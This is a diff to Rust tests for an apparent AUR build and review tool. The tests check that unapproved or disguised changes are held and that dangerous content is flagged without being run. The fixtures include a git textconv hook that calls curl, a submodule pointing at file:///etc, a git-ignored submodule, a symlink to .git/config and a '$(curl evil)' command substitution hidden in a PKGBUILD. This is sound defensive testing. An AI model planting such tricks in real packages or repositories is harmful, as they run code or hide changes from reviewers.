@@ -286,7 +286,7 @@ fn a_commit_that_is_gone_is_held_and_an_old_server_gives_it_by_its_history() {
     );
     own.review(&["gone"])
         .exits(5)
-        .reports("    the approved commit is gone from the repository, so all of it is shown")
+        .reports("    what was approved is gone from there, so all of it is shown")
         .reports("  +pkgname=gone");
     own.world
         .build(&["gone"])
@@ -316,7 +316,7 @@ fn a_pkgbuild_that_is_downloaded_is_approved_by_its_sum() {
         .reports(&format!("held        {url}"));
     own.review(&["PKGBUILD", "--approve"])
         .exits(0)
-        .reports("  pkgname=plain");
+        .reports("  +pkgname=plain");
     let sum = sh_in(file.parent().unwrap(), "sha256sum PKGBUILD");
     assert!(own.approvals().contains(sum.split(' ').next().unwrap()));
     own.build(&[]).exits(0).reports("built       plain 1.0-1");
@@ -383,7 +383,7 @@ fn only_what_is_an_update_and_nothing_else_is_approved_by_itself() {
         "skipped",
         &[("PKGBUILD", &summed(sum.trim())), ("data", "1\n")],
     );
-    for name in ["mode", "file", "forged", "hidden"] {
+    for name in ["mode", "file", "forged", "hidden", "sub"] {
         own.package(
             name,
             &[
@@ -395,6 +395,16 @@ fn only_what_is_an_update_and_nothing_else_is_approved_by_itself() {
     for (name, _, _) in dressed {
         own.package(name, &[("PKGBUILD", &recipe(name))]);
     }
+    // A submodule that git is asked not to speak of.
+    let submodule = |digit: &str| {
+        format!(
+            "git update-index --add --cacheinfo 160000,{},s; git commit -qm s",
+            digit.repeat(40)
+        )
+    };
+    let ignored = "[submodule \"s\"]\n path = s\n url = http://127.0.0.1:1/s\n ignore = all\n";
+    own.package("sub", &[(".gitmodules", ignored)]);
+    own.git_in("sub", &submodule("1"));
     own.review(&["bur/", "--approve"]).exits(0);
     let before = own.approvals();
 
@@ -438,20 +448,22 @@ fn only_what_is_an_update_and_nothing_else_is_approved_by_itself() {
         ],
     );
     own.package("mode", &[("PKGBUILD", &raised("mode"))]);
+    fs::write(own.world.git_dir("sub").join("PKGBUILD"), raised("sub")).unwrap();
+    own.git_in("sub", &format!("git add PKGBUILD; {}", submodule("2")));
     own.git_in("mode", "chmod +x PKGBUILD; git commit -qam mode");
     for (name, from, to) in dressed {
         own.package(name, &[("PKGBUILD", &recipe(name).replace(from, to))]);
     }
 
     let run = own.build(&["--approve-updates"]).exits(5);
-    let run = run.reports("built       true 1.1-1  (an update, approved)");
-    let run = ["skipped", "mode", "file", "forged", "hidden"]
+    let run = run.reports("built       true 1.1-1  (an update)");
+    let run = ["skipped", "mode", "file", "forged", "hidden", "sub"]
         .into_iter()
         .chain(dressed.map(|it| it.0))
         .fold(run, |run, name| {
             run.reports(&format!("built       {name} 1.0-1  ("))
         });
-    run.reports("18 built, 0 up to date, 0 failed, 17 to review");
+    run.reports("19 built, 0 up to date, 0 failed, 18 to review");
     let requests = own.world.server.take_requests();
     assert!(
         !requests.iter().any(|it| it.contains("was-run")),
@@ -512,7 +524,7 @@ fn a_review_shows_what_is_dangerous_and_runs_nothing_of_it() {
             (".gitmodules", &format!("[submodule \"s\"]\n path = s\n url = file:///etc\n[diff \"evil\"]\n textconv = curl {url}/static/was-run\n")),
         ],
     );
-    own.git_in("x", "git config user.email other@t; head -c 1073741824 /dev/zero | tr '\\0' z > huge; command git add huge; command git -c user.name=Other commit -qm \"$(printf 'a\\033[31msubject')\"; rm huge");
+    own.git_in("x", "git config user.email other@t; ln -s .git/config link; echo evil > $'\\xffplain'; git add -A; head -c 1073741824 /dev/zero | tr '\\0' z > huge; command git add huge; command git -c user.name=Other commit -qm \"$(printf 'a\\033[31msubject')\"; rm huge");
     let run = own.review(&[]).exits(5);
     for line in [
         "look at",
@@ -522,7 +534,8 @@ fn a_review_shows_what_is_dangerous_and_runs_nothing_of_it() {
         "  - lines that fetch or decode: PKGBUILD: prepare() { npm install atomic;",
         "  - another author than the approved commit's: Other <other@t>",
         "  - binary files: blob",
-        "  - what isn't shown, or not as a whole: huge (large); long (large)",
+        "  - links, and submodules, whose contents are elsewhere: link",
+        "  - what isn't shown, or not as a whole: huge (large); long (large); \u{fffd}plain (its name is no text)",
         "    commits since then: 2",
         "  +prepare() { npm install atomic; \\u{1b}[2J\\u{202e} x='https://$(curl evil)@host'; }",
         "  +overwrite\\u{d}me",
